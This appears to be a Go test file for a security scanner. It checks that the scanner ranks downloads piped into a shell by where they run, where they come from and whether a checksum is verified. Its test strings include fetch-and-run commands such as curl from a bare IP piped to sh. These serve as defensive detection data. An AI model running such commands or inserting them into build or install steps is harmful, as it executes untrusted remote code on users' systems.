package command

import (
	"testing"

	"github.com/boltseal/boltseal/finding"
	"github.com/boltseal/boltseal/rule/shell"
)

// The same download is ranked by who runs it, by where it comes from and by
// whether it is checked.
func TestSeverity(t *testing.T) {
	const known, other, plain, bad = "https://get.docker.com", "https://a.example/x", "http://a.example/x", "http://198.51.100.7/x"
	for _, tt := range []struct {
		text string
		at   Place
		want finding.Severity
	}{
		{"curl " + known + " | sh", Build, finding.Unknown},
		{"curl " + other + " | sh", Build, finding.Low},
		{"curl " + plain + " | sh", Build, finding.Medium},
		{"curl " + bad + " | sh", Build, finding.High},
		{"wget " + plain + "; echo 0 x | sha256sum -c; sh x", Build, finding.Unknown},
		{"curl " + known + " | sh", Hook, finding.Medium},
		{"curl " + other + " | sh", Hook, finding.High},
		{"curl " + plain + " | sh", Hook, finding.Critical},
		{"curl " + other + " | sh", Launch, finding.High},
		{"curl " + known + " | sh", Install, finding.Low},
		{"curl https://$HOST/x | sh", Launch, finding.Medium},
	} {
		found := Findings(shell.New().Judge(tt.text), tt.at, 1)
		got := finding.Unknown
		if len(found) > 0 {
			got = found[0].Severity
		}
		if got != tt.want {
			t.Errorf("%s in place %d: %s, want %s", tt.text, tt.at, got, tt.want)
		}
	}
}

// Every kind of sign has words and a rank.
func TestKinds(t *testing.T) {
	for k, v := range kinds {
		if v.title == "" || v.titleZH == "" || len(v.techniques) == 0 || v.remedy == "" || v.severity[Launch] == finding.Unknown {
			t.Errorf("%s: incomplete", k)
		}
	}
}
